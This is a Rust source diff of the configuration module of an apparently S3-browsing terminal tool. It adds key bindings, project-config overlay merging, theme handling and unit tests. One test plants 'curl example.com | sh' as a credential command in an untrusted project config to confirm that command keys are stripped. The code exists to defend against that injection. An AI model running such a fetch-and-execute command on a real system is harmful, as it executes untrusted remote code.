+                    for_buckets: Vec::new(),
                 },
             ],
+            preserve_download_mtime: true,
+            download_metadata: DownloadMetadata::default(),
+            ignore_patterns: Vec::new(),
+            hide_folder_markers: true,
             key_bindings: KeyBindings::default(),
+            background: Background::default(),
+            syntax_theme: String::new(),
             colors: ColorScheme::default(),
+            restore_days: default_restore_days(),
+            allow_writes: false,
+            upload_concurrency: default_upload_concurrency(),
             highlight_cache_size: default_highlight_cache_size(),
+            listing_cache_ttl_secs: default_listing_cache_ttl_secs(),
+            slow_request_warning_ms: default_slow_request_warning_ms(),
+            request_timeout_secs: default_request_timeout_secs(),
+            credential_command: default_credential_command(),
+            pre_operation_hook: String::new(),
+            auto_descend: false,
+            flat_page_size: default_flat_page_size(),
+            prefetch_distance: 0,
+            history_max_entries: default_history_max_entries(),
+            history_skip_numeric_folders: default_history_skip_numeric_folders(),
+            history_exclude_patterns: Vec::new(),
+            fuzzy: FuzzyWeights::default(),
+            entry_time: EntryTime::default(),
+            show_permissions: false,
+            status_segments: default_status_segments(),
+            filter_presets: BTreeMap::new(),
+            plugins: BTreeMap::new(),
+            preview: PreviewConfig::default(),
+            confirmations: Confirmations::default(),
+            contexts: BTreeMap::new(),
         }
     }
 }
@@ -420,6 +1287,10 @@ impl KeyBindings {
         self.matches_any(key, &self.quit)
     }
 
+    pub fn is_suspend(&self, key: &KeyEvent) -> bool {
+        self.matches_any(key, &self.suspend)
+    }
+
     pub fn is_move_up(&self, key: &KeyEvent) -> bool {
         self.matches_any(key, &self.move_up)
     }
@@ -487,10 +1358,161 @@ impl KeyBindings {
     pub fn is_yank_selection(&self, key: &KeyEvent) -> bool {
         self.matches_any(key, &self.yank_selection)
     }
+
+    pub fn is_zoom_pane(&self, key: &KeyEvent) -> bool {
+        self.matches_any(key, &self.zoom_pane)
+    }
+
+    pub fn is_cycle_layout(&self, key: &KeyEvent) -> bool {
+        self.matches_any(key, &self.cycle_layout)
+    }
+
+    pub fn is_toggle_progress_pane(&self, key: &KeyEvent) -> bool {
+        self.matches_any(key, &self.toggle_progress_pane)
+    }
+
+    pub fn is_restore_object(&self, key: &KeyEvent) -> bool {
+        self.matches_any(key, &self.restore_object)
+    }
+
+    pub fn is_scroll_columns_left(&self, key: &KeyEvent) -> bool {
+        self.matches_any(key, &self.scroll_columns_left)
+    }
+
+    pub fn is_scroll_columns_right(&self, key: &KeyEvent) -> bool {
+        self.matches_any(key, &self.scroll_columns_right)
+    }
+
+    pub fn is_toggle_fold(&self, key: &KeyEvent) -> bool {
+        self.matches_any(key, &self.toggle_fold)
+    }
+
+    pub fn is_cycle_encoding(&self, key: &KeyEvent) -> bool {
+        self.matches_any(key, &self.cycle_encoding)
+    }
+
+    pub fn is_next_file(&self, key: &KeyEvent) -> bool {
+        self.matches_any(key, &self.next_file)
+    }
+
+    pub fn is_previous_file(&self, key: &KeyEvent) -> bool {
+        self.matches_any(key, &self.previous_file)
+    }
+
+    pub fn is_navigate_back(&self, key: &KeyEvent) -> bool {
+        self.matches_any(key, &self.navigate_back)
+    }
+
+    pub fn is_navigate_forward(&self, key: &KeyEvent) -> bool {
+        self.matches_any(key, &self.navigate_forward)
+    }
+
+    pub fn is_refresh(&self, key: &KeyEvent) -> bool {
+        self.matches_any(key, &self.refresh)
+    }
+
+    pub fn is_accept_filter(&self, key: &KeyEvent) -> bool {
+        self.matches_any(key, &self.accept_filter)
+    }
+
+    pub fn is_properties(&self, key: &KeyEvent) -> bool {
+        self.matches_any(key, &self.properties)
+    }
+
+    pub fn is_group_by_extension(&self, key: &KeyEvent) -> bool {
+        self.matches_any(key, &self.group_by_extension)
+    }
+
+    pub fn is_toggle_group(&self, key: &KeyEvent) -> bool {
+        self.matches_any(key, &self.toggle_group)
+    }
+
+    pub fn is_cycle_kind_filter(&self, key: &KeyEvent) -> bool {
+        self.matches_any(key, &self.cycle_kind_filter)
+    }
+
+    pub fn is_toggle_flat_view(&self, key: &KeyEvent) -> bool {
+        self.matches_any(key, &self.toggle_flat_view)
+    }
+
+    pub fn is_next_page(&self, key: &KeyEvent) -> bool {
+        self.matches_any(key, &self.next_page)
+    }
+
+    pub fn is_previous_page(&self, key: &KeyEvent) -> bool {
+        self.matches_any(key, &self.previous_page)
+    }
+
+    pub fn is_load_all(&self, key: &KeyEvent) -> bool {
+        self.matches_any(key, &self.load_all)
+    }
+
+    pub fn is_grow_preview(&self, key: &KeyEvent) -> bool {
+        self.matches_any(key, &self.grow_preview)
+    }
+
+    pub fn is_shrink_preview(&self, key: &KeyEvent) -> bool {
+        self.matches_any(key, &self.shrink_preview)
+    }
+
+    pub fn is_grow_status_pane(&self, key: &KeyEvent) -> bool {
+        self.matches_any(key, &self.grow_status_pane)
+    }
+
+    pub fn is_shrink_status_pane(&self, key: &KeyEvent) -> bool {
+        self.matches_any(key, &self.shrink_status_pane)
+    }
+
+    pub fn is_grow_progress_pane(&self, key: &KeyEvent) -> bool {
+        self.matches_any(key, &self.grow_progress_pane)
+    }
+
+    pub fn is_shrink_progress_pane(&self, key: &KeyEvent) -> bool {
+        self.matches_any(key, &self.shrink_progress_pane)
+    }
+
+    pub fn is_zen_mode(&self, key: &KeyEvent) -> bool {
+        self.matches_any(key, &self.zen_mode)
+    }
+}
+
+/// Recursively merge `overlay` into `base`: tables are merged key by key,
+/// everything else is replaced.
+fn merge_toml(base: &mut toml::Value, overlay: toml::Value) {
+    match (base, overlay) {
+        (toml::Value::Table(base), toml::Value::Table(overlay)) => {
+            for (key, value) in overlay {
+                match base.get_mut(&key) {
+                    Some(existing) => merge_toml(existing, value),
+                    None => {
+                        base.insert(key, value);
+                    }
+                }
+            }
+        }
+        (base, overlay) => *base = overlay,
+    }
+}
+
+/// Remove [`UNTRUSTED_OVERLAY_KEYS`] from `overlay`, returning the dotted names
+/// of those that were set.
+fn strip_untrusted_keys(overlay: &mut toml::Value) -> Vec<String> {
+    let mut stripped = Vec::new();
+    for path in UNTRUSTED_OVERLAY_KEYS {
+        let Some((last, parents)) = path.split_last() else { continue };
+        let mut table = overlay.as_table_mut();
+        for key in parents {
+            table = table.and_then(|t| t.get_mut(*key)).and_then(|v| v.as_table_mut());
+        }
+        if table.and_then(|t| t.remove(*last)).is_some() {
+            stripped.push(path.join("."));
+        }
+    }
+    stripped
 }
 
 /// Parse a key string like "Ctrl-c", "Up", "k" into a KeyEvent match
-fn matches_key(key: &KeyEvent, key_string: &str) -> bool {
+pub(crate) fn matches_key(key: &KeyEvent, key_string: &str) -> bool {
     let parts: Vec<&str> = key_string.split('-').collect();
 
     let mut expected_modifiers = KeyModifiers::empty();
@@ -552,14 +1574,18 @@ fn parse_key_code(s: &str) -> Option<KeyCode> {
         "pagedown" => Some(KeyCode::PageDown),
         "delete" | "del" => Some(KeyCode::Delete),
         "insert" | "ins" => Some(KeyCode::Insert),
-        _ => None,
+        other => other.strip_prefix('f').and_then(|n| n.parse().ok()).map(KeyCode::F),
     }
 }
 
 impl Config {
     /// Get config file path
     pub fn config_file() -> Result<PathBuf> {
-        let config_dir = dirs::config_dir()
+        // Honor $XDG_CONFIG_HOME on every platform, not just Linux
+        let config_dir = std::env::var_os("XDG_CONFIG_HOME")
+            .map(PathBuf::from)
+            .filter(|p| p.is_absolute())
+            .or_else(dirs::config_dir)
             .or_else(|| dirs::home_dir().map(|h| h.join(".config")))
             .context("Could not determine config directory")?;
 
@@ -587,6 +1613,83 @@ impl Config {
             .context("Failed to parse config file")
     }
 
+    /// Load the global config and overlay a per-project config on top of it.
+    /// The overlay is `explicit` if given (it must exist), otherwise `.rats3.toml`
+    /// in the current working directory if present. Tables are merged key by key;
+    /// any other value (including arrays such as `download_destinations`) replaces
+    /// the global one. Also returns a warning if the overlay set keys it isn't
+    /// trusted with (see [`Config::overlaid`]).
+    pub fn load_with_overlay(explicit: Option<&Path>) -> Result<(Self, Option<String>)> {
+        let global = Self::load()?;
+        match explicit {
+            Some(path) => global.overlaid(path, true),
+            None => match std::env::current_dir() {
+                Ok(dir) if dir.join(PROJECT_CONFIG_FILE).is_file() => {
+                    global.overlaid(&dir.join(PROJECT_CONFIG_FILE), false)
+                }
+                _ => Ok((global, None)),
+            },
+        }
+    }
+
+    /// This config with the file at `path` overlaid on it. Unless the file is
+    /// `trusted` (passed explicitly), keys that run commands are dropped from it
+    /// and named in the returned warning.
+    fn overlaid(&self, path: &Path, trusted: bool) -> Result<(Self, Option<String>)> {
+        let content = fs::read_to_string(path)
+            .with_context(|| format!("Failed to read config file {}", path.display()))?;
+        let mut overlay: toml::Value = toml::from_str(&content)
+            .with_context(|| format!("Failed to parse config file {}", path.display()))?;
+
+        let stripped = if trusted { Vec::new() } else { strip_untrusted_keys(&mut overlay) };
+        let warning = (!stripped.is_empty()).then(|| {
+            format!(
+                "Ignored {} in {} (commands are only taken from the global config or --config)",
+                stripped.join(", "),
+                path.display()
+            )
+        });
+
+        let mut merged = toml::Value::try_from(self)
+            .context("Failed to serialize config")?;
+        merge_toml(&mut merged, overlay);
+        let config = merged
+            .try_into()
+            .with_context(|| format!("Invalid config overlay {}", path.display()))?;
+        Ok((config, warning))
+    }
+
+    /// Resolve the configured background to a concrete light/dark choice and
+    /// switch the color scheme to the light palette if needed, along with the
+    /// syntax theme when none is configured.
+    /// `detected` is the result of querying the terminal (only used for "auto").
+    pub fn apply_background(&mut self, detected: Option<Background>) {
+        let resolved = match self.background {
+            Background::Auto => detected.unwrap_or(Background::Dark),
+            other => other,
+        };
+        if resolved == Background::Light {
+            self.colors = self.colors.rebased(&ColorScheme::light());
+        }
+        if self.syntax_theme.is_empty() {
+            let theme = if resolved == Background::Light { "tokyonight-day" } else { "tokyonight-moon" };
+            self.syntax_theme = theme.to_string();
+        }
+    }
+
+    /// The download destinations to offer for `bucket`: those meant for it
+    /// first, then the ones for any bucket, each in config order
+    pub fn download_destinations_for(&self, bucket: &str) -> Vec<DownloadDestination> {
+        let (mut meant, general): (Vec<_>, Vec<_>) = self
+            .download_destinations
+            .iter()
+            .filter(|destination| destination.for_buckets.is_empty() || destination.is_for(bucket))
+            .cloned()
+            .partition(|destination| destination.is_for(bucket));
+        meant.extend(general);
+        meant
+    }
+
     /// Save config to disk
     pub fn save(&self) -> Result<()> {
         let path = Self::config_file()?;
@@ -603,6 +1706,7 @@ impl Config {
 #[cfg(test)]
 mod tests {
     use super::*;
+    use crate::plugin::PluginOutput;
 
     #[test]
     fn test_default_config() {
@@ -610,6 +1714,15 @@ mod tests {
         assert_eq!(config.preview_max_size, 102400); // 100KB
         assert_eq!(config.preview_width_percent, 50);
         assert_eq!(config.status_message_timeout_secs, 5);
+        assert_eq!(config.key_sequence_timeout_ms, 300);
+        assert!(config.terminal_title);
+        assert_eq!(config.slow_request_warning_ms, 3000);
+        assert_eq!(config.request_timeout_secs, 30);
+        assert_eq!(config.credential_command, "aws sso login --profile {profile}");
+        assert!(config.hide_folder_markers);
+        // Nothing may write to storage unless enabled explicitly
+        assert!(!config.allow_writes);
+        assert_eq!(config.upload_concurrency, 4);
     }
 
     #[test]
@@ -643,6 +1756,7 @@ mod tests {
         let dest = DownloadDestination {
             name: "Test".to_string(),
             path: "/tmp".to_string(),
+            for_buckets: Vec::new(),
         };
         assert_eq!(dest.name, "Test");
         assert_eq!(dest.path, "/tmp");
@@ -694,6 +1808,217 @@ mod tests {
         assert!(path.to_string_lossy().contains("config.toml"));
     }
 
+    #[test]
+    fn test_preview_layout_parse_and_cycle() {
+        let config: Config = toml::from_str(r#"preview_layout = "bottom""#).unwrap();
+        assert_eq!(config.preview_layout, PreviewLayout::Bottom);
+        assert_eq!(Config::default().preview_layout, PreviewLayout::Right);
+        assert_eq!(PreviewLayout::Right.next(), PreviewLayout::Bottom);
+        assert_eq!(PreviewLayout::Bottom.next(), PreviewLayout::Hidden);
+        assert_eq!(PreviewLayout::Hidden.next(), PreviewLayout::Right);
+    }
+
+    #[test]
+    fn test_progress_pane_config() {
+        let config: Config = toml::from_str(
+            r#"
+progress_pane_position = "bottom"
+show_progress_pane = true
+"#,
+        )
+        .unwrap();
+        assert_eq!(config.progress_pane_position, ProgressPanePosition::Bottom);
+        assert!(config.show_progress_pane);
+
+        let config = Config::default();
+        assert_eq!(config.progress_pane_position, ProgressPanePosition::Right);
+        assert!(!config.show_progress_pane);
+        assert!(!config.zen_mode);
+        assert!(config.key_bindings.is_zen_mode(&KeyEvent::new(KeyCode::Char('Z'), KeyModifiers::SHIFT)));
+    }
+
+    #[test]
+    fn test_entry_time() {
+        let config: Config = toml::from_str(r#"entry_time = "absolute""#).unwrap();
+        assert_eq!(config.entry_time, EntryTime::Absolute);
+        assert_eq!(Config::default().entry_time, EntryTime::Relative);
+        assert!(!Config::default().show_permissions);
+    }
+
+    #[test]
+    fn test_merge_toml_overlay() {
+        let mut base = toml::Value::try_from(Config::default()).unwrap();
+        let overlay: toml::Value = toml::from_str(
+            r#"
+preview_width_percent = 30
+ignore_patterns = ["*.pyc"]
+
+[[download_destinations]]
+name = "Project"
+path = "./data"
+
+[key_bindings]
+quit = ["Ctrl-x"]
+"#,
+        )
+        .unwrap();
+        merge_toml(&mut base, overlay);
+        let config: Config = base.try_into().unwrap();
+
+        assert_eq!(config.preview_width_percent, 30);
+        assert_eq!(config.ignore_patterns, vec!["*.pyc".to_string()]);
+        // Arrays replace the global value
+        assert_eq!(config.download_destinations.len(), 1);
+        assert_eq!(config.download_destinations[0].name, "Project");
+        // Tables merge key by key
+        assert_eq!(config.key_bindings.quit, vec!["Ctrl-x".to_string()]);
+        assert_eq!(config.key_bindings.move_up, default_move_up_keys());
+        assert_eq!(config.preview_max_size, default_preview_max_size());
+    }
+
+    #[test]
+    fn test_project_overlay_cannot_set_commands() {
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join(PROJECT_CONFIG_FILE);
+        fs::write(
+            &path,
+            r#"
+preview_width_percent = 30
+pre_operation_hook = "true"
+credential_command = "curl example.com | sh"
+
+[preview.handlers]
+pdf = "pdftotext {} -"
+
+[plugins.presign]
+key = "Alt-p"
+command = "aws s3 presign {files}"
+"#,
+        )
+        .unwrap();
+
+        // Found in the current directory: the handler is dropped with a warning
+        let mut global = Config::default();
+        global.plugins.insert(
+            "presign".to_string(),
+            Plugin { key: String::new(), command: "echo {files}".to_string(), output: Default::default() },
+        );
+        let (config, warning) = global.overlaid(&path, false).unwrap();
+        assert_eq!(config.preview_width_percent, 30);
+        assert!(config.preview.handlers.is_empty());
+        // Nor can it replace (or turn off) the global hook
+        assert_eq!(config.pre_operation_hook, "");
+        // Or add, rebind or redefine plugins
+        assert_eq!(config.plugins, global.plugins);
+        assert_eq!(config.credential_command, default_credential_command());
+        let warning = warning.unwrap();
+        assert!(warning.contains("preview.handlers"));
+        assert!(warning.contains("pre_operation_hook"));
+        assert!(warning.contains("plugins"));
+        assert!(warning.contains("credential_command"));
+
+        // Passed with --config: taken as is
+        let (config, warning) = Config::default().overlaid(&path, true).unwrap();
+        assert_eq!(config.preview.handlers["pdf"], PreviewHandler::Command("pdftotext {} -".to_string()));
+        assert_eq!(config.pre_operation_hook, "true");
+        assert_eq!(config.plugins["presign"].command, "aws s3 presign {files}");
+        assert_eq!(config.credential_command, "curl example.com | sh");
+        assert_eq!(warning, None);
+    }
+
+    #[test]
+    fn test_background_defaults_to_dark() {
+        let config: Config = toml::from_str("").unwrap();
+        assert_eq!(config.background, Background::Dark);
+    }
+
+    #[test]
+    fn test_background_parse_light() {
+        let config: Config = toml::from_str(r#"background = "light""#).unwrap();
+        assert_eq!(config.background, Background::Light);
+    }
+
+    #[test]
+    fn test_apply_background_light() {
+        let mut config = Config {
+            background: Background::Light,
+            ..Config::default()
+        };
+        config.apply_background(None);
+        assert_eq!(config.colors.background, ColorScheme::light().background);
+    }
+
+    #[test]
+    fn test_apply_background_auto_uses_detection() {
+        let mut config = Config {
+            background: Background::Auto,
+            ..Config::default()
+        };
+        config.apply_background(Some(Background::Light));
+        assert_eq!(config.colors.text_primary, ColorScheme::light().text_primary);
+        assert_eq!(config.syntax_theme, "tokyonight-day");
+
+        let mut config = Config {
+            background: Background::Auto,
+            ..Config::default()
+        };
+        config.apply_background(None);
+        assert_eq!(config.colors.text_primary, ColorScheme::default().text_primary);
+        assert_eq!(config.syntax_theme, "tokyonight-moon");
+
+        // A configured syntax theme stays
+        let mut config = Config {
+            background: Background::Light,
+            syntax_theme: "InspiredGitHub".to_string(),
+            ..Config::default()
+        };
+        config.apply_background(None);
+        assert_eq!(config.syntax_theme, "InspiredGitHub");
+    }
+
+    #[test]
+    fn test_rebased_keeps_custom_colors() {
+        let colors = ColorScheme {
+            border: RgbColor::new(1, 2, 3),
+            ..ColorScheme::default()
+        };
+        let rebased = colors.rebased(&ColorScheme::light());
+        assert_eq!(rebased.border, RgbColor::new(1, 2, 3));
+        assert_eq!(rebased.background, ColorScheme::light().background);
+    }
+
+    #[test]
+    fn test_contrast_ratio() {
+        let black = RgbColor::new(0, 0, 0);
+        let white = RgbColor::new(255, 255, 255);
+        assert!((black.contrast_ratio(&white) - 21.0).abs() < 1e-9);
+        assert!((white.contrast_ratio(&black) - 21.0).abs() < 1e-9);
+        assert!((white.contrast_ratio(&white) - 1.0).abs() < 1e-9);
+    }
+
+    #[test]
+    fn test_match_style() {
+        let base = Style::default().fg(Color::White);
+        let underlined = base.add_modifier(Modifier::BOLD | Modifier::UNDERLINED);
+
+        // The dark accent reads fine on the dark selection, the light one doesn't
+        let dark = ColorScheme::default();
+        let accent = base.fg(dark.accent_search.to_ratatui_color());
+        assert_eq!(dark.match_style(base, false), accent);
+        assert_eq!(dark.match_style(base, true), accent);
+        let light = ColorScheme::light();
+        assert_eq!(light.match_style(base, false), base.fg(light.accent_search.to_ratatui_color()));
+        assert_eq!(light.match_style(base, true), underlined);
+
+        let colors: ColorScheme = toml::from_str("selected_match = \"color\"").unwrap();
+        assert_eq!(colors.selected_match, SelectedMatchStyle::Color);
+        let light = ColorScheme { selected_match: SelectedMatchStyle::Color, ..ColorScheme::light() };
+        assert_eq!(light.match_style(base, true), base.fg(light.accent_search.to_ratatui_color()));
+        let dark = ColorScheme { selected_match: SelectedMatchStyle::Underline, ..ColorScheme::default() };
+        assert_eq!(dark.match_style(base, true), underlined);
+        assert_eq!(dark.match_style(base, false), accent);
+    }
+
     #[test]
     fn test_download_destinations_default() {
         let config = Config::default();
@@ -701,5 +2026,116 @@ mod tests {
         assert_eq!(config.download_destinations[0].name, "Downloads");
         assert_eq!(config.download_destinations[1].name, "Temp");
     }
-}
 
+    #[test]
+    fn test_download_destinations_for_bucket() {
+        let config: Config = toml::from_str(
+            r#"
+[[download_destinations]]
+name = "Downloads"
+path = "~/Downloads"
+
+[[download_destinations]]
+name = "Raw"
+path = "/data/raw"
+for_buckets = ["raw-data-*"]
+
+[[download_destinations]]
+name = "Reports"
+path = "~/reports"
+for_buckets = ["reports"]
+"#,
+        )
+        .unwrap();
+        let names = |bucket: &str| -> Vec<String> {
+            config.download_destinations_for(bucket).into_iter().map(|d| d.name).collect()
+        };
+        assert_eq!(names("raw-data-eu"), ["Raw", "Downloads"]);
+        assert_eq!(names("reports"), ["Reports", "Downloads"]);
+        assert_eq!(names("other"), ["Downloads"]);
+    }
+
+    #[test]
+    fn test_contexts() {
+        let config: Config = toml::from_str(
+            r#"
+[contexts.prod]
+uri = "s3://prod-bucket/data"
+profile = "prod"
+
+[contexts.scratch]
+uri = "~/scratch"
+"#,
+        )
+        .unwrap();
+        assert_eq!(config.contexts.keys().collect::<Vec<_>>(), ["prod", "scratch"]);
+        assert_eq!(config.contexts["prod"].profile.as_deref(), Some("prod"));
+        assert_eq!(config.contexts["scratch"].profile, None);
+
+        // Survives a save/load round trip
+        let saved = toml::to_string_pretty(&config).unwrap();
+        let reloaded: Config = toml::from_str(&saved).unwrap();
+        assert_eq!(reloaded.contexts, config.contexts);
+        assert!(Config::default().contexts.is_empty());
+    }
+
+    #[test]
+    fn test_fuzzy_weights() {
+        let config: Config = toml::from_str("[fuzzy]\nbasename_bonus = 4\n").unwrap();
+        assert_eq!(config.fuzzy.basename_bonus, 4);
+        assert_eq!(config.fuzzy.basename_only_bonus, FuzzyWeights::default().basename_only_bonus);
+        assert_eq!(Config::default().fuzzy, FuzzyWeights::default());
+    }
+
+    #[test]
+    fn test_plugins() {
+        let config: Config = toml::from_str(
+            "[plugins.presign]\nkey = \"Alt-p\"\ncommand = \"aws s3 presign {files}\"\n\n\
+             [plugins.athena]\ncommand = \"athena-shell {prefix}\"\noutput = \"terminal\"\n",
+        )
+        .unwrap();
+        assert_eq!(config.plugins["presign"].key, "Alt-p");
+        assert_eq!(config.plugins["presign"].output, PluginOutput::Popup);
+        assert_eq!(config.plugins["athena"].key, "");
+        assert_eq!(config.plugins["athena"].output, PluginOutput::Terminal);
+    }
+
+    #[test]
+    fn test_filter_presets() {
+        let config: Config = toml::from_str("[filter_presets]\n\"1\" = \"*.parquet\"\n\"Alt-e\" = \"error\"\n").unwrap();
+        assert_eq!(config.filter_presets["1"], "*.parquet");
+        assert_eq!(config.filter_presets["Alt-e"], "error");
+        assert!(matches_key(&KeyEvent::new(KeyCode::Char('e'), KeyModifiers::ALT), "Alt-e"));
+    }
+
+    #[test]
+    fn test_preview_handlers() {
+        let config: Config = toml::from_str("[preview.handlers]
+pdf = \"pdftotext {} -\"
+bin = \"hex\"
+").unwrap();
+        assert_eq!(config.preview.handlers["pdf"], PreviewHandler::Command("pdftotext {} -".to_string()));
+        assert_eq!(config.preview.handlers["bin"], PreviewHandler::Hex);
+        assert_eq!(config.preview.handler_max_size, default_handler_max_size());
+    }
+
+    #[test]
+    fn test_confirmations() {
+        let config: Config = toml::from_str("[confirmations]\ndownload_files = 10\ndownload_gb = 0.5\nsync_plans = false\n").unwrap();
+        let confirmations = &config.confirmations;
+        assert!(confirmations.deletes);
+        assert!(!confirmations.sync_plans);
+        assert!(!confirmations.download_needs_confirmation(10, 1024));
+        assert!(confirmations.download_needs_confirmation(11, 1024));
+        assert!(confirmations.download_needs_confirmation(1, 600 * 1024 * 1024));
+
+        // Downloads never ask by default
+        assert!(!Confirmations::default().download_needs_confirmation(100_000, u64::MAX));
+        let config: Config = toml::from_str("[confirmations]\ndownload_gb = 2\n").unwrap();
+        assert_eq!(config.confirmations.download_gb, 2.0);
+
+        assert_eq!(Confirmations::default().egress_cost(1 << 40), None);
+        let priced = Confirmations { egress_cost_per_gb: 0.09, ..Default::default() };
+        assert!((priced.egress_cost(10 << 30).unwrap() - 0.9).abs() < 1e-9);
+    }
+}